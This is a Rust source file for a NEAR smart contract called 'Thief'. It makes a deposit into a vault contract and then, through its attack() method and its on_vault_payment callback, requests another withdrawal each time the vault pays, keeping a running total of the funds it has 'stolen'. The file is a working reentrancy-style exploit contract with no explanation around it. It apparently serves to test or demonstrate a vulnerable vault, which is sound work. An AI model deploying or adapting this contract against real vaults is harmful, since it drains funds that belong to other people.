use near_sdk::{
    AccountId, NearToken, PanicOnDefault, Promise, PromiseOrValue, env, ext_contract, near, require,
};

/// What this contract knows of the vault.
#[ext_contract(vault)]
pub trait Vault {
    fn deposit(&mut self);
    fn withdraw_to(&mut self, receiver_id: AccountId, amount: NearToken);
}

/// Withdraws money from the vault, and withdraws again each time it is paid.
#[near(contract_state)]
#[derive(PanicOnDefault)]
pub struct Thief {
    vault_id: AccountId,
    /// How many withdrawals are still to be made.
    times: u32,
    stolen: NearToken,
}

#[near]
impl Thief {
    #[init]
    pub fn init(vault_id: AccountId) -> Self {
        Self {
            vault_id,
            times: 0,
            stolen: NearToken::from_near(0),
        }
    }

    /// All that the vault has paid.
    pub fn loot(&self) -> NearToken {
        self.stolen
    }

    /// Becomes a customer of the vault.
    #[payable]
    pub fn deposit(&mut self) -> Promise {
        vault::ext(self.vault_id.clone())
            .with_attached_deposit(env::attached_deposit())
            .deposit()
    }

    /// Withdraws the same amount so many times.
    pub fn attack(&mut self, amount: NearToken, times: u32) -> PromiseOrValue<bool> {
        self.times = times;
        self.withdraw(amount)
    }

    /// What the vault calls when it pays. A vault that waits for the promise returned here waits with its books, too.
    #[payable]
    pub fn on_vault_payment(&mut self, amount: NearToken) -> PromiseOrValue<bool> {
        require!(
            env::predecessor_account_id() == self.vault_id,
            "only the vault pays"
        );
        self.stolen = self.stolen.saturating_add(amount);
        self.withdraw(amount)
    }
}

impl Thief {
    fn withdraw(&mut self, amount: NearToken) -> PromiseOrValue<bool> {
        if self.times == 0 {
            return PromiseOrValue::Value(true);
        }
        self.times -= 1;
        vault::ext(self.vault_id.clone())
            .withdraw_to(env::current_account_id(), amount)
            .into()
    }
}
